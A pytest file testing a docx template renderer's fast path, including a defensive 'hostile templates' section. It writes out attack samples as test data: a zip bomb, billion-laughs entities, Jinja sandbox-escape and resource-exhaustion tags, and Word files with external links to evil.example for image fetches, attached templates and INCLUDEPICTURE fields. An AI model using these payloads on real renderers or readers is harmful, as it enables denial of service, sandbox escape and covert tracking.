"""Specs for the compiled fast path: docxtpl's bytes, prepared once; hostile templates contained."""

from __future__ import annotations

import datetime
import io
import re
import time
import zipfile

import pytest
from docx import Document
from docxtpl_support import (
    UNIT_ROWS,
    paragraphs_template,
    parts_of,
    user_template,
    with_body_and_relationship,
    with_parts,
)

from docgen.errors import TemplateError, UnreadableDocumentError
from docgen.render.fastpath import prepare, render_one
from docgen.render.limits import RenderLimits
from docgen.render.problems import MissingValueError

W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def test_every_row_gives_the_bytes_of_the_one_document_path() -> None:
    template = user_template()
    prepared = prepare(template, "通知.docx")
    for row in UNIT_ROWS:
        assert prepared.render(row) == render_one(template, "通知.docx", row)


def test_a_template_built_from_the_profile_gives_the_same_bytes_with_properties_set() -> None:
    from docgen.layout.profile import load_profile
    from docgen.ooxml.template import TemplateLine, build_template

    lines = [TemplateLine("title", "关于{{ 事项 }}的通知"), TemplateLine("body", "{{p body }}")]
    template = build_template(load_profile("gbt9704"), lines, page_numbers="odd_even", title="通知")
    row = {"事项": "作风整治", "body": "正文"}

    def core(properties: object) -> None:
        properties.title = "关于作风整治的通知"  # type: ignore[attr-defined]
        properties.created = datetime.datetime(2025, 3, 10)  # type: ignore[attr-defined]

    fast = prepare(template, "通知.docx").render(row, core=core)
    assert fast == render_one(template, "通知.docx", row, core=core)


def test_the_same_row_gives_the_same_bytes_whatever_was_rendered_before() -> None:
    prepared = prepare(user_template(), "通知.docx")
    first = prepared.render(UNIT_ROWS[0])
    for row in UNIT_ROWS[1:]:
        prepared.render(row)
    assert prepared.render(UNIT_ROWS[0]) == first
    assert prepare(user_template(), "通知.docx").render(UNIT_ROWS[0]) == first


def test_each_row_gets_its_own_values_in_body_header_table_and_properties() -> None:
    data = prepare(user_template(), "通知.docx").render(UNIT_ROWS[1])
    parts = parts_of(data)
    body = parts["word/document.xml"].decode()
    assert "市委办公室/市政府办公室" in body
    assert "李强 &amp; &lt;张敏&gt;" in body
    assert "<w:br/>" in body and "<w:tab/>" in body  # "\n" and "\t" in a value, as docxtpl does
    header = next(v for k, v in parts.items() if k.startswith("word/header"))
    assert "市委办公室/市政府办公室" in header.decode()
    assert "市委办公室/市政府办公室整改通知" in parts["docProps/core.xml"].decode()


def test_a_missing_value_names_the_field_and_the_paragraph() -> None:
    with pytest.raises(MissingValueError) as caught:
        prepare(user_template(), "通知.docx").render({"单位名称": "市教育局", "任务": []})
    assert caught.value.name == "截止日期"
    assert caught.value.location is not None and caught.value.location.paragraph == 2
    assert "截止日期" in str(caught.value)


def test_a_missing_value_is_placed_as_a_word_user_counts_paragraphs_with_their_text() -> None:
    from docx import Document

    document = Document()
    document.add_paragraph("{{ 单位名称 }}：")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "序号", "任务"
    table.cell(1, 0).text, table.cell(1, 1).text = "1", "{{ 任务 }}"
    document.add_paragraph("请于月底前报送。")
    document.add_paragraph("联系电话：{{ 电话 }}")
    buffer = io.BytesIO()
    document.save(buffer)
    prepared = prepare(buffer.getvalue(), "通知.docx")
    with pytest.raises(MissingValueError) as caught:
        prepared.render({"单位名称": "市教育局", "任务": "核对台账"})
    assert str(caught.value.location) == "通知.docx：第3段「联系电话：{{ 电话 }}」：字段 电话"
    with pytest.raises(MissingValueError) as caught:
        prepared.render({"单位名称": "市教育局", "电话": "1"})
    assert str(caught.value.location) == "通知.docx：第1个表格第2行「{{ 任务 }}」：字段 任务"


def test_an_error_in_a_table_after_a_row_loop_names_the_row_as_the_template_shows_it() -> None:
    """docxtpl makes a {%tr %} row a bare tag: it still counts as the row it is in Word."""
    from docx import Document

    document = Document()
    document.add_paragraph("{{ 单位名称 }}")
    document.add_table(rows=1, cols=1).cell(0, 0).text = "前一个表格"
    table = document.add_table(rows=5, cols=1)
    for row, text in enumerate(
        ["任务", "{%tr for t in 任务 %}", "{{ t }}", "{%tr endfor %}", "{{ 电话 }}"]
    ):
        table.cell(row, 0).text = text
    nested = table.cell(0, 0).add_table(rows=2, cols=1)  # its rows are not the outer table's
    nested.cell(1, 0).text = "{% if 单位名称 %}内{% endif %}"
    table.cell(0, 0).add_paragraph("{% if 单位名称 %}外{% endif %}")  # after it, in the same row
    buffer = io.BytesIO()
    document.save(buffer)
    prepared = prepare(buffer.getvalue(), "通知.docx")
    with pytest.raises(MissingValueError) as caught:
        prepared.render({"单位名称": "市教育局", "任务": ["核对台账"]})
    assert str(caught.value.location) == "通知.docx：第2个表格第5行「{{ 电话 }}」：字段 电话"


def test_a_tag_syntax_error_is_reported_at_prepare_with_its_paragraph() -> None:
    with pytest.raises(TemplateError) as caught:
        prepare(paragraphs_template("正文", "{% if 单位名称 %}未闭合"), "坏模板.docx")
    assert "语法错误" in str(caught.value)
    assert "坏模板.docx" in str(caught.value)


def test_a_lone_chinese_quote_in_a_tag_is_pointed_out() -> None:
    """Word types “” as the clerk types quotes: one slipped inside the tag."""
    with pytest.raises(TemplateError) as caught:
        prepare(paragraphs_template("“{{ 单位名称 ”}}：你好"), "t.docx")
    assert "标签中的引号没有成对：多半是输入时带进的中文引号“”" in str(caught.value)
    with pytest.raises(TemplateError) as caught:  # quotes in pairs: no such advice
        prepare(paragraphs_template("{{ 单位名称|replace('a', 'b') }"), "t.docx")
    assert "引号没有成对" not in str(caught.value)


def test_two_paragraph_tags_in_one_paragraph_are_pointed_out() -> None:
    """docxtpl makes the whole paragraph the {%p %} tag: the second one, and the text between,
    are gone, and Jinja sees an if without its end."""
    with pytest.raises(TemplateError) as caught:
        prepare(paragraphs_template("{%p if 单位名称 %}有单位{%p endif %}"), "t.docx")
    assert "「{%p if 单位名称 %}有单位{%p endif %}」这一段有两个 {%p %} 之类的标签" in str(
        caught.value
    )


def test_errors_after_a_tag_split_over_paragraphs_keep_the_templates_paragraph_numbers() -> None:
    # docxtpl joins "请{{ 单位" and "名称 }}" into one paragraph; the author still sees four.
    with pytest.raises(TemplateError) as caught:
        prepare(paragraphs_template("第一段", "请{{ 单位", "名称 }}", "第四段{{ a b }}"), "t.docx")
    assert str(caught.value.location) == "t.docx：第4段「第四段{{ a b }}」"
    with pytest.raises(TemplateError) as caught:
        prepare(paragraphs_template("第一段", "请{{ 单位", "名 称 }}：第三段"), "t.docx")
    assert str(caught.value.location) == "t.docx：第2段「请{{ 单位名 称 }}：第三段」"
    # At render time too, after a {%p %} block (its paragraphs become bare tags).
    texts = ("第一段", "{%p if 单位名称 %}", "请{{ 单位", "名称 }}", "{%p endif %}", "{{ 电话 }}")
    prepared = prepare(paragraphs_template(*texts), "t.docx")
    with pytest.raises(MissingValueError) as caught:
        prepared.render({"单位名称": "市教育局"})
    assert str(caught.value.location) == "t.docx：第6段「{{ 电话 }}」：字段 电话"


def test_a_tag_left_open_is_said_so_with_its_own_paragraph_only() -> None:
    # docxtpl's patch joins the paragraphs after an unclosed "{{" into it; Jinja would quote
    # their text as the token it found. The author sees one paragraph and a missing "}}".
    texts = ("关于{{ 单位名称 的通知", "第二段正文", "联系人：{{ 联系人 }}")
    with pytest.raises(TemplateError) as caught:
        prepare(paragraphs_template(*texts), "t.docx")
    assert str(caught.value) == (
        "t.docx：第1段「关于{{ 单位名称 的通知」：正文中的模板标签有语法错误："
        "「{{」之后没有「}}」（标签没有写完，或结束的括号少写了、写成了全角）"
    )
    with pytest.raises(TemplateError) as caught:
        prepare(paragraphs_template("{% if 单位名称 ", "第二段", "{% endif %}"), "t.docx")
    assert "「{%」之后没有「%}」" in str(caught.value)
    assert str(caught.value.location) == "t.docx：第1段「{% if 单位名称」"
    # A tag closed in a later paragraph is docxtpl's to join: Jinja's own words stay.
    with pytest.raises(TemplateError, match="却是「的」") as caught:
        prepare(paragraphs_template("关于{{ 单位", "名称 的 }}通知"), "t.docx")


def _table_template(rows: list[tuple[str, str]]) -> bytes:
    document = Document()
    document.add_paragraph("{{ 单位名称 }}")
    table = document.add_table(rows=len(rows), cols=2)
    table.style = "Table Grid"
    for number, (first, second) in enumerate(rows):
        table.cell(number, 0).text, table.cell(number, 1).text = first, second
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("rows", "place"),
    [
        (
            [("{%tr for t in 任务 + %}", ""), ("{{ t }}", ""), ("{%tr endfor %}", "")],
            "第1个表格第2行「{% for t in 任务 + %}」",
        ),
        ([("{%tr for t in 任务 %}", ""), ("{{ t }}", ""), ("{%tr endfor x %}", "")], "第4行"),
        (
            [("{{ 单位名称 }}", ""), ("{%tr if 任务 == %}", ""), ("{%tr endif %}", "")],
            "第1个表格第3行「{% if",
        ),
        ([("{%tr for t in 任务 %}", ""), ("{{ t + }}", ""), ("{%tr endfor %}", "")], "第3行"),
    ],
    ids=["tr-for", "tr-endfor", "tr-if-after-a-row", "a-cell-in-the-loop"],
)
def test_a_syntax_error_in_a_row_tag_is_placed_at_its_own_row(
    rows: list[tuple[str, str]], place: str
) -> None:
    """docxtpl makes a {%tr %} row into its bare tag, on the line of the row above's last
    paragraph: the error is placed at the tag's own row (the header is row 1)."""
    template = _table_template([("序号", "任务"), *rows])
    with pytest.raises(TemplateError) as caught:
        prepare(template, "t.docx")
    assert place in str(caught.value.location)


# -- hostile templates ------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_before_anything_is_parsed() -> None:
    bomb = with_parts(user_template(), {"word/media/bomb.bin": b"\0" * (9 * 1024 * 1024)})
    with pytest.raises(UnreadableDocumentError, match="压缩"):
        prepare(bomb, "炸弹.docx")


def test_a_billion_laughs_entity_is_refused() -> None:
    entities = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    document = (
        f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY lol0 "lol">{entities}]>'
        f"<w:document {W_NS}><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    hostile = with_parts(user_template(), {"word/document.xml": document})
    with pytest.raises(UnreadableDocumentError, match="DTD"):
        prepare(hostile, "笑.docx")


@pytest.mark.parametrize(
    ("source", "message"),
    [
        ("{% for i in range(10**9) %}x{% endfor %}", "range"),
        (
            "{% for a in range(10000) %}{% for b in range(10000) %}{% endfor %}{% endfor %}",
            "循环次数",
        ),
        ("{{ ''.__class__.__mro__ }}", "安全限制"),
        ("{{ ''.__class__ }}", "安全限制"),  # a constant: prepare folds it, the row reports it
        ("{{ 'x' * 10**9 }}", "过长"),
        ("{{ 'x'.ljust(10**9) }}", "过长"),
        ("{{ '%999999999d' % 1 }}", "过长"),
        ("{{ '{:>999999999}'.format(1) }}", "过长"),
        ("{{ 'ab'|center(10**9) }}", "过长"),
        ("{{ ('a' * 1000)|replace('', 'b' * 10000) }}", "过长"),
        ("{{ 2 ** (10 ** 10) }}", "乘方"),
        ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "递归"),
    ],
)
def test_a_hostile_tag_fails_its_row_quickly(source: str, message: str) -> None:
    prepared = prepare(paragraphs_template(source), "恶意.docx")
    start = time.monotonic()
    with pytest.raises(TemplateError, match=message):
        prepared.render({})
    assert time.monotonic() - start < 5


@pytest.mark.parametrize(
    ("opening", "closing"),
    [
        ("{% set s %}", "{% endset %}{{ s[0] }}"),
        ("{% macro m() %}", "{% endmacro %}{{ m()[0] }}"),
        ("{% block b %}", "{% endblock %}"),
    ],
    ids=["set-block", "macro", "block"],
)
def test_a_block_that_keeps_markup_as_a_value_is_refused_at_prepare(
    opening: str, closing: str
) -> None:
    """Its body is Markup, whose methods would rebuild any XML: a body over two paragraphs
    keeps the markup between them."""
    template = paragraphs_template("{{ 单位名称 }}", f"{opening}甲", f"乙{closing}")
    with pytest.raises(TemplateError, match="格式代码存进了") as caught:
        prepare(template, "恶意.docx")
    assert caught.value.location is not None and caught.value.location.paragraph == 2


def test_a_block_that_keeps_text_renders_as_docxtpl_renders_it() -> None:
    source = (
        "{% macro 称呼(名) %}{{ 名 }}同志{% endmacro %}{% set 落款 %}市委办公室{% endset %}"
        "{{ 称呼('王芳') }}，{{ 'ok'|upper }}，{{ 落款 }}"
    )
    template = paragraphs_template("{{ 单位名称 }}", source)
    row = {"单位名称": "市教育局"}
    data = prepare(template, "宏.docx").render(row)
    assert data == render_one(template, "宏.docx", row)
    assert "王芳同志，OK，市委办公室".encode() in parts_of(data)["word/document.xml"]


@pytest.mark.parametrize(
    "block",
    [
        "{% filter upper %}ok{% endfilter %}",
        "{% filter wordwrap(3, wrapstring='<' ~ 'w:br/>') %}甲乙丙丁戊己{% endfilter %}",
        "{% filter join('<' ~ 'w:br/>') %}甲乙{% endfilter %}",
    ],
    ids=["harmless", "wordwrap", "join"],
)
def test_a_filter_block_is_refused_at_prepare(block: str) -> None:
    """Jinja writes what a filter block's filter returns unescaped (wordwrap's wrapstring,
    join's separator): refused, with the filter written in {{ }} as the way."""
    template = paragraphs_template("{{ 单位名称 }}", f"前{block}后")
    with pytest.raises(TemplateError, match=r"\{% filter %\}") as caught:
        prepare(template, "筛选.docx")
    assert "{{ 单位名称|upper }}" in str(caught.value)
    assert caught.value.location is not None and caught.value.location.paragraph == 2


def test_a_loop_over_huge_data_stops_at_the_iteration_cap() -> None:
    prepared = prepare(paragraphs_template("{% for x in data %}{% endfor %}"), "恶意.docx")
    with pytest.raises(TemplateError, match="循环次数"):
        prepared.render({"data": range(10**9)})


def test_a_slow_template_stops_at_the_time_limit() -> None:
    slow = "{% for a in range(10000) %}{% for b in range(10000) %}{% endfor %}{% endfor %}"
    limits = RenderLimits(seconds=0.3, max_iterations=10**12)
    prepared = prepare(paragraphs_template(slow), "慢.docx", limits)
    start = time.monotonic()
    with pytest.raises(TemplateError, match="超时"):
        prepared.render({})
    assert time.monotonic() - start < 5


def test_the_time_limit_leaves_the_callers_alarm_handler_in_place() -> None:
    import signal

    def callers(signum: int, frame: object) -> None:
        pass

    previous = signal.signal(signal.SIGALRM, callers)
    try:
        prepared = prepare(paragraphs_template("{{ a }}"), "x.docx")
        prepared.render({"a": "甲", "单位名称": "市教育局"})
        slow = "{% for a in range(10000) %}{% for b in range(10000) %}{% endfor %}{% endfor %}"
        limits = RenderLimits(seconds=0.2, max_iterations=10**12)
        with pytest.raises(TemplateError, match="超时"):
            prepare(paragraphs_template(slow), "慢.docx", limits).render({})
        assert signal.getsignal(signal.SIGALRM) is callers
        assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0)
    finally:
        signal.signal(signal.SIGALRM, previous)


def test_a_huge_output_stops_at_the_size_limit() -> None:
    big = "{% for i in range(10000) %}一二三四五六七八九十{% endfor %}"
    prepared = prepare(paragraphs_template(big), "大.docx", RenderLimits(max_output_chars=50_000))
    with pytest.raises(TemplateError, match="过大"):
        prepared.render({})


def test_random_globals_and_filters_are_not_available() -> None:
    with pytest.raises(TemplateError):
        prepare(paragraphs_template("{{ lipsum() }}"), "t.docx").render({})
    with pytest.raises(TemplateError):
        prepare(paragraphs_template("{{ [1, 2]|random }}"), "t.docx")


def _rels_with(extra: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{extra}</Relationships>"
    ).encode()


def test_an_external_image_link_is_stripped_and_reported() -> None:
    blip = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/'
        '2006/wordprocessingDrawing"><wp:extent cx="10" cy="10"/><wp:docPr id="1" name="p"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://'
        'schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rIdEvil"/>'
        "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    hostile = with_body_and_relationship(
        user_template(), blip, "rIdEvil", "image", "http://evil.example/p.png"
    )
    prepared = prepare(hostile, "外链.docx")
    output = prepared.render(UNIT_ROWS[0])
    assert any("evil.example" in note and "图片" in note for note in prepared.notes)
    for name, blob in parts_of(output).items():
        assert b"evil.example" not in blob, name
        assert b'TargetMode="External"' not in blob, name
    assert b"r:link" not in parts_of(output)["word/document.xml"]


def test_an_attached_template_and_mail_merge_settings_are_stripped() -> None:
    template = user_template()
    settings = parts_of(template)["word/settings.xml"]
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    settings = settings.replace(
        b"</w:settings>",
        b'<w:attachedTemplate r:id="rIdT"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        b'<w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge></w:settings>',
    )
    hostile = with_parts(
        template,
        {
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": _rels_with(
                f'<Relationship Id="rIdT" Type="{kind}" Target="file://evil.example/x.dotm" '
                'TargetMode="External"/>'
            ),
        },
    )
    prepared = prepare(hostile, "附加模板.docx")
    parts = parts_of(prepared.render(UNIT_ROWS[0]))
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    assert b"mailMerge" not in parts["word/settings.xml"]
    assert all(b"evil.example" not in blob for blob in parts.values())
    assert any("附加模板" in note for note in prepared.notes)
    assert any("邮件合并" in note for note in prepared.notes)


def test_a_field_that_fetches_a_file_is_defused_and_hyperlinks_stay() -> None:
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' INCLUDEPICTURE "http://evil.example/t.png" \\d </w:instrText></w:r><w:r><w:fldChar '
        'w:fldCharType="separate"/></w:r><w:r><w:t>图</w:t></w:r><w:r><w:fldChar '
        'w:fldCharType="end"/></w:r></w:p><w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>网站</w:t>'
        "</w:r></w:hyperlink></w:p>"
    )
    hostile = with_body_and_relationship(
        user_template(), field, "rIdWeb", "hyperlink", "https://www.linjiang.gov.example/"
    )
    output = parts_of(prepare(hostile, "域.docx").render(UNIT_ROWS[0]))
    assert b"INCLUDEPICTURE" not in output["word/document.xml"]
    assert b"www.linjiang.gov.example" in output["word/_rels/document.xml.rels"]


def test_a_macro_enabled_document_is_refused() -> None:
    macro = with_parts(user_template(), {"word/vbaProject.bin": b"\x00macro"})
    with pytest.raises(UnreadableDocumentError, match="宏"):
        prepare(macro, "宏.docm")


def test_a_dotx_template_is_filled_as_a_docx() -> None:
    template = user_template()
    types = parts_of(template)["[Content_Types].xml"].replace(
        b"document.main+xml", b"template.main+xml"
    )
    prepared = prepare(with_parts(template, {"[Content_Types].xml": types}), "模板.dotx")
    output = prepared.render(UNIT_ROWS[0])
    assert b"document.main+xml" in parts_of(output)["[Content_Types].xml"]
    assert zipfile.ZipFile(io.BytesIO(output)).testzip() is None


def test_preprocessing_a_template_built_to_stall_docxtpl_stops_at_its_time_limit() -> None:
    # docxtpl's "-%}" regex scans to the end of the body from every "-%}" that no text follows.
    template = paragraphs_template("-%}" * 60_000)
    start = time.monotonic()
    with pytest.raises(TemplateError, match="预处理超时"):
        prepare(template, "慢模板.docx", RenderLimits(prepare_seconds=0.5))
    assert time.monotonic() - start < 5


def test_a_table_whose_rows_were_all_in_an_empty_loop_is_dropped_on_both_paths() -> None:
    from docx import Document

    document = Document()
    document.add_paragraph("{{ 单位名称 }}")
    table = document.add_table(rows=3, cols=2)
    table.cell(0, 0).text = "{%tr for t in 任务 %}"
    table.cell(1, 0).text, table.cell(1, 1).text = "{{ loop.index }}", "{{ t }}"
    table.cell(2, 0).text = "{%tr endfor %}"
    document.add_paragraph("此致")
    buffer = io.BytesIO()
    document.save(buffer)
    template = buffer.getvalue()
    prepared = prepare(template, "表.docx")
    for tasks in ([], ["核对台账"]):
        row = {"单位名称": "市教育局", "任务": tasks}
        data = prepared.render(row)
        assert data == render_one(template, "表.docx", row)
        assert (b"<w:tbl>" in parts_of(data)["word/document.xml"]) is bool(tasks)


@pytest.mark.parametrize(
    ("paragraph", "row", "said"),
    [
        ("{% if a %}甲{{ a }", {"a": 1}, "「{{」之后没有「}}」（标签没有写完，或结束的括号少写了"),
        ("{% for x in a %}没有结束", {"a": [1]}, "还缺少 {% endfor %}"),
        ("{{ a / 0 }}", {"a": 1}, "除数为零"),
        ("{{ a + '元' }}", {"a": 1}, "不能对整数和文字做「+」运算"),
        ("{% if a > 1 %}多{% endif %}", {"a": "3"}, "不能用「>」比较文字和整数"),
        ("{{ '%06d' % a }}", {"a": "7"}, "格式「%d」需要数字，这里却是文字"),
        ("{{ a.split('') }}", {"a": "甲"}, "标签内不能换行"),
        ("{% if %}甲{% endif %}", {}, "标签中缺少表达式"),
        ("{% for x in a %}{{ x }}{% endfor %}", {"a": 3}, "整数不能用于 for 循环"),
    ],
)
def test_common_template_mistakes_are_said_in_chinese(
    paragraph: str, row: dict[str, object], said: str
) -> None:
    with pytest.raises(TemplateError, match=re.escape(said)) as caught:
        prepare(paragraphs_template(paragraph), "模板.docx").render({**row, "单位名称": "甲"})
    assert caught.value.location is not None and caught.value.location.paragraph == 1


def test_paragraphs_holding_only_a_p_tag_count_as_word_shows_them() -> None:
    template = paragraphs_template(
        "{{ 单位名称 }}", "{%p if 加急 %}", "请加急办理。", "{%p endif %}", "联系电话：{{ 电话 }}"
    )
    with pytest.raises(MissingValueError) as caught:
        prepare(template, "通知.docx").render({"单位名称": "市教育局", "加急": True})
    assert caught.value.location is not None and caught.value.location.paragraph == 5


@pytest.mark.parametrize(
    ("source", "line", "paragraph"),
    [
        ("<w:body>\n<w:p/>\n<w:p><w:r><w:t>{{ bad }}</w:t></w:r></w:p></w:body>", 3, 2),
        (
            '<w:body>\n<w:p w:rsidR="1"/>\n<w:p><w:t>甲</w:t></w:p>\n{%p if a %}\n'
            "<w:p><w:t>{{ bad }}</w:t></w:p></w:body>",
            5,
            4,
        ),
    ],
)
def test_an_empty_paragraph_counts_as_one_where_an_error_is_placed(
    source: str, line: int, paragraph: int
) -> None:
    from docgen.render.problems import template_place

    where = template_place("模板.docx", source, line)
    assert where.paragraph == paragraph and where.excerpt == "{{ bad }}"


def test_a_call_block_calls_only_a_macro_of_the_template() -> None:
    """Jinja writes what a {% call %} returns unescaped: a macro's output is the template's
    own text and escaped values; str.format's is whatever the template spelt."""
    spelt = "{% set F = 'x' %}{% call F.format() %}{% endcall %}"
    prepared = prepare(paragraphs_template("{{ 单位名称 }}", spelt), "调用.docx")
    with pytest.raises(TemplateError, match=r"\{% call %\} 只能调用模板中定义的宏"):
        prepared.render({"单位名称": "市教育局"})

    macro = "{% macro 框(名) %}【{{ 名 }}{{ caller() }}】{% endmacro %}{% call 框(单位名称) %}收{% endcall %}"
    template = paragraphs_template("{{ 单位名称 }}", macro)
    row = {"单位名称": "市教育局"}
    data = prepare(template, "调用.docx").render(row)
    assert data == render_one(template, "调用.docx", row)
    assert "【市教育局收】".encode() in parts_of(data)["word/document.xml"]


def test_a_tab_docxtpl_would_split_inside_an_attribute_value_fails_the_row() -> None:
    """docxtpl's listing step reads from a self-closing <w:t/> to the next </w:t> as text
    and splits runs at a tab there, inside an attribute value too; its table step would then
    recover markup from the value. The row fails instead, on both paths; a tab in text still
    becomes Word's tab."""
    run = '<w:r><w:t xml:space="preserve"/><w:rPr><w:color w:val="{{ 颜色 }}"/></w:rPr><w:t>z</w:t></w:r>'
    template = paragraphs_template("{{ 单位名称 }}", "图")
    document = parts_of(template)["word/document.xml"]
    document = document.replace(
        "<w:t>图</w:t>".encode(),
        b"<w:t>\xe5\x9b\xbe</w:t></w:r>" + run.encode() + b"<w:r><w:t/>",
        1,
    )
    template = with_parts(template, {"word/document.xml": document})
    prepared = prepare(template, "制表.docx")
    hostile = {"单位名称": "市教育局", "颜色": "X w:author=\tY"}
    with pytest.raises(TemplateError):
        prepared.render(hostile)
    with pytest.raises(TemplateError):
        render_one(template, "制表.docx", hostile)

    tabbed = {"单位名称": "市教育局\t（牵头）", "颜色": "FF0000"}
    data = prepared.render(tabbed)
    assert data == render_one(template, "制表.docx", tabbed)
    assert b"<w:tab/>" in parts_of(data)["word/document.xml"]


def _with_body(inner: str, body_tag: str = "<w:body>") -> bytes:
    """A template whose body holds ``inner`` (then the section), under ``body_tag``."""
    template = paragraphs_template("x")
    document = parts_of(template)["word/document.xml"].decode()
    start, end = document.index("<w:body>"), document.index("<w:sectPr")
    return with_parts(
        template,
        {"word/document.xml": (document[:start] + body_tag + inner + document[end:]).encode()},
    )


@pytest.mark.parametrize(
    "inner",
    [
        # a -%} in an attribute value: docxtpl cuts through to the next text, which holds quotes
        '<w:p><w:r><w:rPr><w:color w:val="FF0000{% if 1 -%}"/></w:rPr>'
        '<w:t xml:space="preserve">{% endif %}" w:themeColor="accent2" w:x="</w:t></w:r></w:p>'
        "<w:p><w:r><w:t>{{ 单位名称 }}</w:t></w:r></w:p>",
        # a self-closing <w:p/> inside a run: {%p %} takes half a paragraph
        '<w:p><w:r><w:t>A</w:t></w:r><w:r><w:rPr><w:p w:x="1"/></w:rPr><w:t>{%p if 单位名称 %}</w:t></w:r></w:p>'
        "<w:p><w:r><w:t>{{ 单位名称 }}</w:t></w:r></w:p><w:p><w:r><w:t>{%p endif %}</w:t></w:r></w:p>",
    ],
    ids=["dash-in-attribute", "self-closing-paragraph"],
)
def test_what_docxtpl_s_steps_after_jinja_leave_malformed_fails_the_row_on_both_paths(
    inner: str,
) -> None:
    template = _with_body(inner)
    row = {"单位名称": "市教育局"}
    with pytest.raises(TemplateError):
        prepare(template, "坏.docx").render(row)
    with pytest.raises(TemplateError):
        render_one(template, "坏.docx", row)


def test_a_body_with_its_own_attributes_or_namespaces_keeps_them() -> None:
    """The direct path writes the document's own <w:body>; one with attributes or namespace
    declarations of its own takes docxtpl's path, which keeps them."""
    body = '<w:body xmlns:zz="urn:zz" xml:lang="en">'
    template = _with_body("<w:p><w:r><w:t>{{ 单位名称 }}</w:t></w:r><zz:x/></w:p>", body)
    prepared = prepare(template, "体.docx")
    assert not prepared.direct
    row = {"单位名称": "市教育局"}
    data = prepared.render(row)
    assert data == render_one(template, "体.docx", row)
    assert body.encode() in parts_of(data)["word/document.xml"]


def test_characters_xml_forbids_are_dropped_alike_on_both_paths() -> None:
    """A cell pasted from Word may hold \\x0b; Jinja may fold in a U+FFFE: dropped, as
    docxtpl's recovering parser drops them, the row still written."""
    template = _with_body('<w:p><w:r><w:t>{{ 备注 }}{{ "\\ufffe" }}</w:t></w:r></w:p>')
    row = {"单位名称": "市教育局", "备注": "市教\x0b育局"}
    data = prepare(template, "字符.docx").render(row)
    assert data == render_one(template, "字符.docx", row)
    xml = parts_of(data)["word/document.xml"]
    assert "市教育局".encode() in xml and b"\x0b" not in xml and "\ufffe".encode() not in xml


def test_a_document_property_holding_a_character_xml_forbids_is_said_as_such() -> None:
    """The title reads 单位名称; a cell pasted from Word with \\x0b fails its row, said as a
    character to delete, not as a value too long."""
    prepared = prepare(user_template(), "通知.docx")
    with pytest.raises(TemplateError) as caught:
        prepared.render({**UNIT_ROWS[0], "单位名称": "市教\x0b育局"})
    assert "XML 不允许的字符" in str(caught.value) and "过长" not in str(caught.value)


def test_filters_on_literals_run_as_rows_render_not_while_the_template_is_prepared() -> None:
    """Security review 20: Jinja folds `{{ "x"|center(199999)|wordwrap(1) }}` into its code
    while compiling, and takes any error there (the time limit's too) for "not constant": a
    tag cost seconds, a template of them hours, and their values sat in memory, unlimited.
    Only literals are folded: the filters run per row, under the row's limits."""
    tag = '{{ "x"|center(199999)|wordwrap(1)|length }}'
    start = time.monotonic()
    prepared = prepare(paragraphs_template(tag * 50), "模板.docx", RenderLimits(seconds=0.5))
    assert time.monotonic() - start < 5
    with pytest.raises(TemplateError, match="渲染超时"):
        prepared.render({"单位名称": "市教育局"})
    literal = prepare(paragraphs_template('{{ "x-y" }}'), "t.docx").render({"单位名称": "甲"})
    assert b">x-y<" in parts_of(literal)["word/document.xml"]
